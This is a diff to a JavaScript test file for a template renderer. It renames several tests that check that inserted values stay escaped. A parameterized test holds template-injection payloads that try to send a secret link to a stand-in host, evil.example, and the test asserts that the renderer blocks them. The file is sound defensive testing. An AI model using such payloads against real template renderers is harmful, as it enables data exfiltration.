@@ -11,7 +11,7 @@ describe('filling in a model', () => {
     expect(textOf('Good day {{ name }}{{ nobody }}.', { name: 'Ali' })).toBe('Good day Ali.')
   })
 
-  test('a value never becomes a mark: no headline, no bold face, no button', () => {
+  test('a value never becomes markup: no headline, no bold face, no button', () => {
     const blocks = parseMarkup(
       renderContent('{{ a }}\n\n{{ b }}\n\n{{ c }}', {
         a: '# Pay now',
@@ -27,7 +27,7 @@ describe('filling in a model', () => {
     ])
   })
 
-  test('the raw filter is gone: a value stays guarded through it', () => {
+  test('the raw filter is disabled: a value stays escaped', () => {
     const blocks = parseMarkup(renderContent('{{ a | raw }}', { a: '**x**' }))
     expect(blocks).toEqual([{ kind: 'paragraph', spans: [{ text: '**x**', isStrong: false }] }])
   })
@@ -66,7 +66,7 @@ test.each([
   'https://evil.example/?u= {{- link -}} &',
   '{% capture own %} {{ link }} {% endcapture %}[Go](https://evil.example/?u={{ own | strip | append: "&" }})',
   'https://evil.example/?u={{ link | url_encode | slice: 5, 40 }}',
-])('Q-166 a link is parted from any address that it could be told to: %s', (template) => {
+])('Q-166 a link is separated from any address that could receive it: %s', (template) => {
   const markup = JSON.stringify(parseMarkup(renderContent(template, { link: 'https://own.example/secret' })))
   expect(markup).not.toMatch(/evil\S*(own|secret)|secret[^\s"]/)
 })
